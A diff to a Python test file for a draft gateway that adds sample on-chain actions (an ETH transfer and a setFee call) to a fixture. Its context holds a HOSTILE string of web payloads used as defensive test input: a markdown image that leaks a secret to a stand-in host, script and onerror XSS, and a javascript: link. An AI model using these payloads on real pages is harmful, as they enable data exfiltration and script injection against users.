@@ -33,6 +33,15 @@ window.violations = [];
 document.addEventListener("securitypolicyviolation", (event) =>
   window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
 """
+ACTIONS = [
+    {"type": "eth-transfer", "recipient": "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "amount": "1.5"},
+    {
+        "type": "custom",
+        "contract": "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed",
+        "function": "setFee(uint256)",
+        "args": ["30"],
+    },
+]
 HOSTILE = (
     "![leak](https://evil.example/leak.png?d=secret) <script>document.title='owned'</script>\n\n"
     "<img src=https://evil.example/x.png onerror=alert(1)> [click](javascript:alert(1))\n\n"
@@ -234,7 +243,7 @@ def furnished(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Gatewa
     """Yield a gateway with a draft in every state, and the address of each kind of page."""
     drafter = ScriptedDrafter(flaws=[("45,000 USDC", "error"), ("Wash trading", "warning"), ("one quarter.", "info")])
     with a_gateway(tmp_path_factory.mktemp("furnished"), drafter) as gateway:
-        drafted = order(gateway)
+        drafted = order(gateway, actions=ACTIONS)
         drafter.dies_in = "motivation"
         interrupted = order(gateway, until="interrupted")
         drafter.dies_in, wait = "", threading.Event()
